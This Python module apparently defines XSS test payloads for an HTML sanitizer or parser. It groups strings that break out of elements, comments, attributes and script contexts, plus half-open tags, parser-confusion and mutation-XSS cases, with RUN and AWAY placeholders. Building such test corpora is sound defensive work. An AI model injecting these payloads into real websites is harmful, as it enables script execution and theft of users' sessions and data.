"""Payloads that leave the place they were put in: elements, attributes, scripts, comments; and texts that mutate."""

from __future__ import annotations

from .payload import HERE, raw, within

ELEMENTS = [
    *within(f"<title>{HERE}</title>", "</title><script>RUN</script>", "</TITLE ><img src=x onerror=RUN>"),
    *within(f"<textarea>{HERE}</textarea>", "</textarea><script>RUN</script>", "</textarea\n><svg onload=RUN>"),
    *within(f"<style>{HERE}</style>", "</style><script>RUN</script>", "*{}</style/><svg onload=RUN>"),
    *within(f"<noscript>{HERE}</noscript>", "</noscript><script>RUN</script>"),
    *within(f"<xmp>{HERE}</xmp>", "</xmp><script>RUN</script>"),
    *within(f"<iframe>{HERE}</iframe>", "</iframe><script>RUN</script>"),
    *within(f"<noembed>{HERE}</noembed>", "</noembed><script>RUN</script>"),
    *within(f"<template>{HERE}</template>", "</template><script>RUN</script>"),
    *within(f"<select><option>{HERE}</select>", "</option></select><svg onload=RUN>"),
    *within(f"<svg><text>{HERE}</text></svg>", "</text></svg><img src=x onerror=RUN>"),
    *within(f"<svg><desc><![CDATA[{HERE}]]></desc></svg>", "]]><img src=x onerror=RUN>"),
    *within(f"<table><tr><td>{HERE}</table>", "</td></tr></table><svg onload=RUN>"),
]

COMMENTS = within(
    f"<!-- {HERE} -->", "--><script>RUN</script>", "--!><svg onload=RUN>", "--><img src=x onerror=RUN><!--"
) + within(f"<!--{HERE}-->", "><svg onload=RUN>", "-><svg onload=RUN>")

ATTRIBUTES = [
    *within(
        f'<p title="{HERE}">x</p>',
        '"><script>RUN</script>',
        '" autofocus tabindex=1 onfocus=RUN x="',
        '"/autofocus/tabindex="1"/onfocus="RUN',
        '" style="animation:k 1s" onanimationstart="RUN"><style>@keyframes k{}</style>',
    ),
    *within(f"<p title='{HERE}'>x</p>", "'><script>RUN</script>", "' autofocus tabindex=1 onfocus='RUN"),
    *within(
        f"<p title={HERE}>x</p>", "x><script>RUN</script>", "x autofocus tabindex=1 onfocus=RUN", "`><svg onload=RUN>"
    ),
    *within(f'<img src="{HERE}">', 'x" onerror="RUN', 'x"onerror=RUN//'),
    *within(f'<input value="{HERE}">', '" autofocus onfocus="RUN', '" type=image src=x onerror="RUN'),
    *within(f'<a href="{HERE}">x</a>', '#" autofocus onfocus="RUN', '"><svg/onload=RUN>'),
    *within(f'<meta name="description" content="{HERE}">', '"><svg onload=RUN>', '0;url=AWAY" http-equiv="refresh'),
    *within(f'<iframe srcdoc="{HERE}"></iframe>', "&lt;script>RUN&lt;/script>", "<svg onload=RUN>"),
]

CODE = [
    *within(
        f'<script>var x = "{HERE}";</script>', '";RUN//', "</script><script>RUN</script>", '"-RUN-"', '\\x22";RUN//'
    ),
    *within(f"<script>var x = '{HERE}';</script>", "';RUN//", "'+RUN+'"),
    *within(f"<script>var x = `{HERE}`;</script>", "${RUN}", "`;RUN//"),
    *within(f"<script>var x = {HERE};</script>", "RUN", "0;RUN//"),
    *within(f"<script>// {HERE}</script>", "x\nRUN//", "x\rRUN//", "x\u2028RUN//", "x\u2029RUN//"),
    *within(f"<script>/* {HERE} */</script>", "*/RUN/*"),
    *within(
        f'<script type="application/ld+json">{{"name": "{HERE}"}}</script>',
        "</script><script>RUN</script>",
        "</ScRiPt ><svg onload=RUN>",
        "<!--<script></script></script><svg onload=RUN>",
    ),
    *within(f"<img src=x onerror=\"f = '{HERE}'\">", "';RUN//", "&#39;;RUN//", "&apos;+RUN+&apos;"),
]

# A tag that is left open takes what follows into itself.
HALF_OPEN = [
    *within(f"<p>{HERE}</p>", "<img src=x onerror=RUN ", "<svg onload=RUN x=", "<body onload=RUN "),
    *within(f"<p>{HERE}</p><p>it's</p>", "<img src=x onerror='RUN//"),
    *within(f'<p>{HERE}</p><p title="x">', '<img src=x onerror="RUN//', '<img src="AWAY?'),
    *within(f"<p>{HERE}</p><script></script>", "<script>RUN//"),
    *within(f"<p>{HERE}</p><style></style>", "<style>@import'AWAY';"),
    *within(f"<p>{HERE}</p><p>'</p>", "<meta http-equiv=refresh content='0;url=AWAY?"),
]

# Commentary that ends earlier than it seems, and elements whose text is read in two ways.
MISREAD = raw(
    "<!--><svg onload=RUN>-->",
    "<!---><svg onload=RUN>-->",
    "<!-- --!><svg onload=RUN>-->",
    "<![CDATA[><svg onload=RUN>]]>",
    "<?xml ><svg onload=RUN>?>",
    "<!x ><svg onload=RUN>",
    "</ x><svg onload=RUN>",
    "<a title='<svg onload=RUN>'</a><svg onload=RUN>",
    '<noscript><p title="</noscript><svg onload=RUN>">',
    '<style><p title="</style><svg onload=RUN>">',
    '<xmp><p title="</xmp><svg onload=RUN>">',
    '<noframes><p title="</noframes><svg onload=RUN>">',
    '<textarea><p title="</textarea><svg onload=RUN>">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "<table><svg onload=RUN></table>",
    "<p title=`x><svg onload=RUN>`>",
)

# Harmless as it stands; what a browser writes after reading it is not.
AGAIN = within(
    f"<div id=d>{HERE}</style></div><script>d.innerHTML = d.innerHTML; d.innerHTML = d.innerHTML</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    '<svg><style>&lt;p&gt;</style></svg><svg></p><style><g title="</style><img src=x onerror=RUN>">',
    "<noscript>&lt;/noscript&gt;&lt;img src=x onerror=RUN&gt;</noscript><img src=x onerror=RUN>",
)

PAYLOADS = [*ELEMENTS, *COMMENTS, *ATTRIBUTES, *CODE, *HALF_OPEN, *MISREAD, *AGAIN]
